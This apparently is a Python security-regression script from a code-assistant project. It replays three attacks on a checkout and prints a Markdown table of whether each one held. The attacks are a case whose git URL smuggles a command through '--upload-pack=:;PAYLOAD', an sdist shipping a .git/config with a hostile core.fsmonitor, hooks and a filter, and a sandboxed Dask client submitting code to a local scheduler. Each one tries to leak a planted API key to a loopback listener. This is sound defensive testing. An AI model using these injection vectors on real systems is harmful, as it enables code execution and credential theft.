"""eval's doors attacked, before and after (issue 57, holes 1-3 and the Landlock download): the same three attacks on
the code of any checkout, as root, with a key planted in the environment and a `.netrc` in HOME, and a listener on
127.0.0.1.

    python -m bench.eval_doors [--tree DIR]     # DIR: a checkout to attack (default: this one), e.g. `git worktree
                                                # add /tmp/before fa06e59` for the code before the change

1. a case whose `repo.git` is `--upload-pack=:;PAYLOAD` (`main.py eval` on it);
2. an sdist served from a loopback index that ships `.git/config` with `core.fsmonitor` (and hooks, a filter),
   downloaded by the tree's own scratch.materialize under bubblewrap and under Landlock, then `git status` on the copy
   as the agent runs it;
3. `eval --cluster local`'s scheduler contacted from the sandbox with the network on (a build backend's view): a
   Dask client over tcp:// that submits a function writing a marker, and a bare TLS handshake.

Each attack runs in a process of its own with the tree's code (cwd and sys.path[0] the tree). Prints a Markdown table.
"""
from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from tests.repos import ROOT, Listener
from tests.test_eval_doors import ATTACK, KEY, SHA, Index, payload, sdist


def planted(work: Path) -> dict[str, str]:
    home = work / "home"
    home.mkdir()
    (home / ".netrc").write_text(f"machine example.invalid login me password {KEY}\n")
    return {**os.environ, "HOME": str(home), "OPENAI_API_KEY": KEY, "XDG_CACHE_HOME": str(home / ".cache")}


def in_tree(tree: Path, code: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", f"import sys; sys.path.insert(0, {str(tree)!r})\n{code}"], cwd=cwd,
                          env={**env, "PYTHONPATH": str(tree)}, capture_output=True, text=True, timeout=600,
                          check=False)


def outcome(marker: Path, listener: Listener) -> str:
    leaked = any(KEY.encode() in received for received in listener.received)
    if marker.exists() or leaked:
        return f"**escaped**: marker {'written' if marker.exists() else 'absent'}, key {'sent' if leaked else 'not sent'}"
    return "held: no marker, nothing sent"


def git_url(tree: Path, work: Path) -> tuple[str, str]:
    env, marker = planted(work), work / "marker"
    with Listener() as listener:
        case = {"id": "evil", "repo": {"git": f"--upload-pack=:;{payload(marker, listener.port)}", "commit": SHA},
                "task": "t", "test_command": "pytest"}
        (work / "cases.jsonl").write_text(json.dumps(case) + "\n")
        proc = subprocess.run([sys.executable, str(tree / "main.py"), "eval", "cases.jsonl", "--out", "out",
                               "--base-url", "http://127.0.0.1:9/v1"], cwd=work, env=env, capture_output=True,
                              text=True, timeout=600, check=False)
        time.sleep(1)
    said = proc.stderr.strip().splitlines()[-1][:90] if proc.stderr.strip() else ""
    return outcome(marker, listener), f"exit {proc.returncode}: `{said}`"


MATERIALIZE = """
import subprocess
from pathlib import Path
from code_assistant.evaluate.cases import Source, SourceKind
from code_assistant.evaluate.scratch import materialize
from code_assistant.verify.sandbox import resolve
sandbox = resolve("write", {bwrap!r})
print("BACKEND", sandbox.backend)
try:
    repo = materialize(Source(SourceKind.PYPI, "evil==1.0"), Path({dest!r}), sandbox)
except Exception as exc:
    print("FAILED", str(exc)[-120:])
else:
    print("DOWNLOADED", (repo / ".git" / "config").read_text().count("fsmonitor"), "fsmonitor lines")
    subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True)
"""


def shipped_git(tree: Path, work: Path, backend: str) -> tuple[str, str]:
    env, marker = planted(work), work / "marker"
    with Listener() as listener:
        index = Index(work / "index", sdist(work, marker, listener.port))
        try:
            bwrap = "bwrap" if backend == "bubblewrap" else str(work / "no-bwrap")
            proc = in_tree(tree, MATERIALIZE.format(bwrap=bwrap, dest=str(work / "scratch" / "repo")),
                           {**env, "PIP_INDEX_URL": index.url}, work)
        finally:
            index.close()
        time.sleep(1)
    said = [line for line in proc.stdout.splitlines() if line.startswith(("FAILED", "DOWNLOADED"))]
    return outcome(marker, listener), f"`{said[-1] if said else proc.stderr.strip()[-120:]}`"


CLUSTER = """
import time
from pathlib import Path
from code_assistant.evaluate.cluster import DaskCluster
from code_assistant.verify.runner import TestRunner
from code_assistant.verify.sandbox import resolve
start = time.monotonic()
cluster = DaskCluster("local", 1)
print("STARTED", round(time.monotonic() - start, 2), cluster.cluster.scheduler_address)
try:
    port = cluster.cluster.scheduler_address.rsplit(":", 1)[1]
    done = TestRunner(["{python}", "attack.py", port, {marker!r}], cwd=Path("."), timeout=120,
                      sandbox=resolve("write", network=True)).run()
    print(done.output)
    time.sleep(1)
finally:
    cluster.close()
"""


def cluster(tree: Path, work: Path) -> tuple[str, str]:
    env, marker = planted(work), work / "marker"
    (work / "attack.py").write_text(ATTACK)
    with Listener() as listener:
        proc = in_tree(tree, CLUSTER.format(python=sys.executable, marker=str(marker)), env, work)
    lines = [line.strip() for line in proc.stdout.splitlines() if line.startswith(("STARTED", "SUBMITTED", "REFUSED"))]
    return outcome(marker, listener), "; ".join(f"`{line}`" for line in lines) or proc.stderr.strip()[-200:]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--tree", type=Path, default=ROOT, help="the checkout whose code is attacked")
    tree = parser.parse_args().tree.resolve()
    rows = []
    with tempfile.TemporaryDirectory(prefix="eval-doors-") as tmp:
        attacks = [("case `repo.git` = `--upload-pack=:;PAYLOAD`", lambda w: git_url(tree, w)),
                   ("sdist shipping `.git/config` (fsmonitor, hooks, filter), bubblewrap",
                    lambda w: shipped_git(tree, w, "bubblewrap")),
                   ("the same sdist, Landlock", lambda w: shipped_git(tree, w, "landlock")),
                   ("`--cluster local` scheduler from the sandbox (network on)", lambda w: cluster(tree, w))]
        for number, (name, attack) in enumerate(attacks):
            work = Path(tmp) / str(number)
            work.mkdir()
            start = time.monotonic()
            result, detail = attack(work)
            rows.append(f"| {name} | {result} | {detail} | {time.monotonic() - start:.1f} s |")
    print(f"tree: {tree}\n\n| attack | outcome | what the tree said | wall |\n| --- | --- | --- | --- |")
    print("\n".join(rows))


if __name__ == "__main__":
    main()
